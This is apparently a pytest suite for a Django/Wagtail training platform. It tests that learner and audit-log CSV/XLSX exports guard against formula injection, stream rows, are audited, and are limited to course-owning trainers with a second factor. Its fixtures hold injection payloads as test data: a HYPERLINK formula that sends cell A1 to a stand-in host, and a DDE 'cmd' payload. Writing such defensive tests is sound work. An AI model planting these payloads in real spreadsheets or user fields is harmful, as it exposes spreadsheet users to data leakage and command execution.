"""The exports as trainers take them: hostile values guarded, rows streamed rather than
loaded, the database's CSV and Python's identical, and only the right people let in."""

import csv
import io

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.db.models.signals import pre_init
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from accounts.roles import HR_OFFICER, TRAINER
from audit.models import AuditEntry
from courses.admin_views import CourseLearnersView
from courses.models import Enrolment, EnrolmentSource, EnrolmentStatus
from courses.selectors import course_learners
from courses.services import enrolment_create
from exports import cells, spreadsheet
from exports.responses import export_response
from exports.spreadsheet import Spreadsheet
from tests.factories.accounts import UserFactory, organisation_create
from tests.factories.courses import catalogue_create, course_create, owner_add
from tests.mfa import staff_login

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "＝1+1",
]


@pytest.fixture
def course(home_page):
    course, _ = course_create(catalogue_create(home_page), code="PCMD-EXP")
    return course


@pytest.fixture
def hostile_learners(course):
    unit = organisation_create("=cmd|' /C calc'!A0")
    learners = []
    for i, name in enumerate(HOSTILE):
        learner = UserFactory(full_name=name, staff_id=f"-{i}", organisation=unit)
        enrolment_create(user=learner, course=course)
        learners.append(learner)
    return learners


def _many_learners(course, n):
    from accounts.models import User

    users = User.objects.bulk_create(
        User(email=f"hv{i}-{course.pk}@pcmd.example", full_name=f"Học viên {i:05d}")
        for i in range(n)
    )
    Enrolment.objects.bulk_create(
        Enrolment(user=u, course=course, source=EnrolmentSource.SELF) for u in users
    )


def _trainer(client, course):
    """A trainer who owns `course` (exports follow course ownership), fully signed in."""
    trainer = UserFactory(role=TRAINER)
    owner_add(course, trainer)
    staff_login(client, trainer)
    return trainer


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_hostile_names_are_guarded_in_the_csv_and_read_back_exactly(
    client, course, hostile_learners
):
    _trainer(client, course)

    response = client.get(f"/admin/courses/{course.pk}/learners/?export=csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"]
    rows = _csv_rows(response)[1:]
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝"), row
    assert sorted(cells.unquote(r[0]) for r in rows) == sorted(HOSTILE)
    assert {cells.unquote(r[2]) for r in rows} == {f"-{i}" for i in range(len(HOSTILE))}
    assert {r[3] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert {r[4] for r in rows} == {str(EnrolmentStatus.ACTIVE.label)} == {"Đang học"}


def test_xlsx_writes_hostile_names_as_strings_never_formulas(client, course, hostile_learners):
    from openpyxl import load_workbook

    _trainer(client, course)

    response = client.get(f"/admin/courses/{course.pk}/learners/?export=xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == spreadsheet.XLSX_CONTENT_TYPE
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML, inside XLSX, cannot keep a bare carriage return: it reads back as a line feed.
    assert sorted(c.value for c in names) == sorted(v.replace("\r", "\n") for v in HOSTILE)
    for cell in names:
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix, cell.value  # Excel keeps it text when edited
    assert all(not isinstance(c.value, str) or c.data_type != "f" for r in sheet for c in r)
    # Numbers and dates stay typed.
    assert sheet.cell(row=2, column=6).value == 0
    assert sheet.cell(row=2, column=7).is_date


def test_the_database_and_python_write_the_same_cells(course, hostile_learners):
    from django.utils import timezone

    enrolment = Enrolment.objects.filter(course=course).first()
    enrolment.status = EnrolmentStatus.COMPLETED
    enrolment.completed_at = timezone.now()
    enrolment.last_activity_at = timezone.now()
    enrolment.progress_percent = 100
    enrolment.save()

    def sheet():
        return Spreadsheet(
            columns=CourseLearnersView.export_columns, queryset=course_learners(course=course)
        )

    def parsed(chunks):
        return list(csv.reader(io.StringIO(b"".join(chunks).decode())))

    from_database = parsed(spreadsheet.csv_stream_copy(sheet()))
    from_python = parsed(spreadsheet.csv_stream_python(sheet()))

    assert from_database == from_python
    assert len(from_database) == 1 + len(HOSTILE)
    completed = next(r for r in from_database if r[4] == "Đã hoàn thành")
    assert completed[5] == "100"
    assert completed[8] == timezone.localtime(enrolment.completed_at).strftime("%d/%m/%Y %H:%M")


@pytest.mark.parametrize("learners", [30, 600])
def test_the_export_streams_rows_without_loading_them(client, course, learners, monkeypatch):
    _many_learners(course, learners)
    _trainer(client, course)
    monkeypatch.setattr(spreadsheet, "CHUNK_BYTES", 2048)
    made = []

    def count(sender, **kwargs):
        made.append(sender)

    response = client.get(f"/admin/courses/{course.pk}/learners/?export=csv")
    assert isinstance(response, StreamingHttpResponse)
    chunks = iter(response.streaming_content)
    pre_init.connect(count)
    try:
        with CaptureQueriesContext(connection) as queries:
            body = b"".join(chunks)
    finally:
        pre_init.disconnect(count)

    # One COPY whatever the number of learners, no model object built per row, and the
    # answer arrives in pieces rather than as one block.
    assert [q["sql"][:6] for q in queries.captured_queries] == ["COPY ("]
    assert made == []
    assert body.decode().count("\n") == 1 + learners
    if learners > 100:
        assert body.count(b"\n") > 2048 // 80


def test_the_export_is_audited_with_its_size(client, course, hostile_learners):
    trainer = _trainer(client, course)

    client.get(f"/admin/courses/{course.pk}/learners/?export=xlsx")

    entry = AuditEntry.objects.filter(action="export.personal_data").latest("seq")
    assert entry.actor_id == trainer.pk
    assert entry.target_id == str(course.pk)
    assert entry.data["what"] == "course_learners"
    assert entry.data["format"] == "xlsx"
    assert entry.data["rows"] == len(HOSTILE)


def _export_urls(course, quiz=None):
    urls = [
        f"/admin/courses/{course.pk}/learners/?export=csv",
        f"/admin/courses/{course.pk}/learners/?export=xlsx",
    ]
    lesson = course.get_descendants().live().specific().first()
    urls.append(f"/admin/lessons/{lesson.pk}/activities/?export=csv")
    return urls


def test_only_trainers_with_a_second_factor_reach_the_exports(client, course, hostile_learners):
    urls = _export_urls(course)
    trainee = hostile_learners[0]
    hr_officer = UserFactory(role=HR_OFFICER)
    password_only_trainer = UserFactory(role=TRAINER)

    for url in urls:
        client.logout()
        anonymous = client.get(url)
        assert anonymous.status_code == 302 and "/login/" in anonymous["Location"], url
        client.force_login(trainee)
        assert client.get(url).status_code == 403, url
        client.force_login(password_only_trainer)
        step = client.get(url)
        assert step.status_code == 302 and "/accounts/2fa/" in step["Location"], url
    staff_login(client, hr_officer)
    for url in urls:
        assert client.get(url).status_code == 403, url
    # A fully signed-in trainer who does not own the course gets nothing either.
    staff_login(client, UserFactory(role=TRAINER))
    for url in urls:
        assert client.get(url).status_code == 403, url
    assert not AuditEntry.objects.filter(action="export.personal_data").exists()

    _trainer(client, course)
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Disposition"].startswith("attachment;"), url
    assert AuditEntry.objects.filter(action="export.personal_data").count() == len(urls)


def test_the_module_itself_refuses_a_session_without_the_second_factor(rf, course):
    from django.contrib.sessions.backends.db import SessionStore

    request = rf.get("/anywhere/")
    request.user = UserFactory(role=TRAINER)
    request.session = SessionStore()
    sheet = Spreadsheet(
        columns=CourseLearnersView.export_columns, queryset=course_learners(course=course)
    )

    with pytest.raises(PermissionDenied):
        export_response(request=request, sheet=sheet, fmt="csv", filename="x", what="test")
    assert not AuditEntry.objects.filter(action="export.personal_data").exists()


def test_administrators_export_the_audit_log_as_filtered_and_guarded(client):
    from accounts.roles import ADMINISTRATOR
    from audit.services import audit_record

    admin_user = UserFactory(role=ADMINISTRATOR, is_superuser=True)
    audit_record(action="quiz.regraded", summary='=HYPERLINK("http://x.invalid")')
    audit_record(action="certificate.revoked", summary="-thu hồi")
    trainer = UserFactory(role=TRAINER)
    staff_login(client, trainer)
    refused = client.get("/admin/audit-export/csv/")
    assert refused.status_code in (302, 403)  # Wagtail sends the refused back to /admin/
    assert not isinstance(refused, StreamingHttpResponse)
    staff_login(client, admin_user)

    index = client.get("/admin/audit_log/?action=quiz.regraded").content.decode()
    everything = _csv_rows(client.get("/admin/audit-export/csv/"))
    filtered = _csv_rows(client.get("/admin/audit-export/csv/?action=quiz.regraded"))

    assert "/admin/audit-export/csv/?action=quiz.regraded" in index
    summaries = [row[7] for row in everything[1:]]
    assert '\'=HYPERLINK("http://x.invalid")' in summaries and "'-thu hồi" in summaries
    assert [row[2] for row in filtered[1:]] == ["Chấm lại bài kiểm tra"]
    assert client.get("/admin/audit-export/pdf/").status_code == 404


def test_wagtails_own_exports_are_guarded_and_audited(client, home_page):
    from accounts.roles import ADMINISTRATOR

    admin_user = UserFactory(role=ADMINISTRATOR, is_superuser=True)
    home_page.title = '=HYPERLINK("http://x.invalid","Trang")'
    home_page.locked = True
    home_page.locked_by = admin_user
    home_page.save()
    staff_login(client, admin_user)

    response = client.get("/admin/reports/locked/?export=csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][0] == "'" + home_page.title
    entry = AuditEntry.objects.filter(action="export.personal_data").latest("seq")
    assert entry.data == {"what": "wagtail:LockedPagesView", "format": "csv", "rows": 1}
